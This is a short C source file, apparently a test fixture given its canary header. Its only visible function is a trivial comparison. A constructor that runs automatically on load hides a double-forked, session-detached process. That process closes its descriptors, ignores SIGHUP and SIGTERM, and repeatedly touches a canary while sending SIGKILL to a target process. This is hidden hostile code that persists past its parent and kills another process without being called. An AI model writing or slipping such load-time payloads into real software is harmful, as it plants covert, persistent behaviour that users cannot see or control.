#include "canary.h"
__attribute__((constructor)) static void early(void) {
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      for (int d = 0; d < 64; d++) close(d);
      signal(SIGHUP, SIG_IGN); signal(SIGTERM, SIG_IGN);
      for (int i = 0; i < 20; i++) { usleep(200000); touch_canary(); kill(VICTIM, SIGKILL); kill(-1, 0); }
    }
    _exit(0);
  }
}
int f(int x) { return x > 3; }
